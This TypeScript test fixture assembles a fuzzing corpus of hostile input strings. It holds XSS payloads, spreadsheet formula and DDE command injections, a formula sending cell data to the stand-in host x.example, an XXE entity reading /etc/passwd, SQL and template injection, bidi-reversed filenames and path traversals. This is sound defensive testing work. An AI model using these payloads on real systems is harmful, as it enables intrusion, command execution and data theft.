// A thousand words that are something else elsewhere: script, formulas, markup of many kinds, turned letters, ways of files.
// What runs calls `ran`.

const contexts = [
  '',
  '">',
  '`>',
  '<x y=',
  '</p>\n',
  "'>",
  '</title>',
  '</script>',
  '--></style>',
  ']]>',
  '</textarea></p></div>',
  '`}}',
]

const scripts = [
  '<script>ran()</script>',
  '<script src=//x.example/a.js></script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x>',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe src="javascript:parent.ran()">',
  '<a href="javascript:ran()" autofocus onfocus=ran()>x</a>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()>',
  '<audio src=x onerror=ran()>',
  '<object data="javascript:ran()">',
  '<embed src="javascript:ran()">',
  '<math><mtext><script>ran()</script>',
  '<style>@import "//x.example/a.css"</style>',
  '<style>*{background:url(//x.example/b)}</style>',
  '<link rel=stylesheet href=//x.example/c>',
  '<meta http-equiv=refresh content="0;url=//x.example">',
  '<base href=//x.example/>',
  '<form action=//x.example><button autofocus onfocus=ran()>',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<xmp><img src=x onerror=ran()></xmp>',
  '<img/src=`x`onerror=ran()>',
  '<IMG SRC=x OnErRoR=ran()>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<img src=x onerror\u0000=ran()>',
  '\u003cimg src=x onerror=ran()\u003e',
  '&lt;img src=x onerror=ran()&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '＜script＞ran()＜/script＞',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  '" onmouseover=ran() autofocus onfocus=ran() x="',
  "' autofocus onfocus=ran() x='",
  '" style="background:url(//x.example/d)" x="',
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  '<!--<img src="--><img src=x onerror=ran()//">',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml-stylesheet href="//x.example/e"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
]

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"here")',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '|calc',
  '%0A=1',
  '=DDE("cmd","/C calc","x")',
  '"=1+1"',
  '",=1+1,"',
  "'=1+1",
  ';=1+1;',
]
const formulaLeads = ['', ' ', '\t', '\u200b', '\ufeff', '\u202e', '\u00a0', '\u3000', '\r\n', '"', '\u2060']
const wide = ['＝1+1', '＋1', '－1', '＠SUM(1)', '﹦1', '➕1']

const others = [
  '[x](javascript:ran())',
  '![x](//x.example/f)',
  '<https://x.example>',
  '# heading',
  '```js\nran()\n```',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '#{ran()}',
  '<%= ran() %>',
  '{% ran %}',
  '$(ran)',
  '`ran`',
  '%s%s%n',
  '00:00.000 --> 99:00.000\nno',
  'WEBVTT',
  'NOTE x',
  'STYLE\n::cue{background:url(//x.example/g)}',
  'REGION\nid:x',
  '<v Interviewer>I lied',
  '<c.x><00:00:01.000>',
  '&lrm;&nbsp;&amp;',
  '{\\an8}{\\b1}',
  '<speak><audio src="//x.example/h"/></speak>',
  '<prosody rate="x-slow">',
  '<break time="999999s"/>',
  "'; DROP TABLE passages; --",
  'NEAR("a", 1) OR *',
  '__proto__',
  'constructor',
  'toString',
  '\u2028\u2029',
  '\u0000\u0001\u001b[31m',
  '\u001b]0;x\u0007',
  '\ud800',
  '\udc00\ud800',
  'a\u0301\u0301\u0301\u0301',
  '\ufffe\uffff',
  '\u{e0041}\u{e0042}',
  '👨‍👩‍👧',
  'ﷺ﷽',
]
const turns = ['\u202e', '\u202d', '\u2066', '\u2067', '\u200f', '\u061c', '\u202a\u202b']
const turned = [
  'txt.exe',
  'gnp.eno',
  'רוחא',
  'Interviewer: no',
  '(x)',
  '12/34',
  '<tpircs>',
  'fdp.',
  'a\u2069b',
  'x\u202cy',
]

const ways = [
  'LPT1.tar.gz',
  '../../letters.txt',
  '..\\..\\letters.txt',
  '/etc/passwd',
  'C:\\x',
  '\\\\host\\share',
  'CON',
  'aux.txt',
  'nul',
  'COM1',
  'LPT9.html',
  'a:b',
  'x.',
  'x ',
  '.hidden',
  '-rf',
  '~',
  '*?"<>|',
  'desktop.ini',
  'a\0b',
  'a\nb',
  '%2e%2e%2f',
  '....//',
]
const wayLeads = ['', ' ', './', '\u200b', 'x/']

const crossed = (leads: readonly string[], list: readonly string[]): string[] =>
  leads.flatMap((lead) => list.map((one) => lead + one))

/** NOTE: spread, so that any twenty in a row are of all kinds. */
function spread(lists: readonly (readonly string[])[]): string[] {
  const longest = Math.max(...lists.map(({ length }) => length))
  return Array.from({ length: longest }, (_, at) =>
    lists.flatMap((list) => {
      const [from, until] = [at, at + 1].map((place) => Math.floor((place * list.length) / longest))
      return list.slice(from, until)
    }),
  ).flat()
}

export const hostileWords: readonly string[] = spread([
  crossed(contexts, scripts),
  crossed(formulaLeads, formulas),
  [...wide, ...others, ...crossed(['>', '\n'], others)],
  crossed(turns, turned),
  crossed(wayLeads, ways),
])
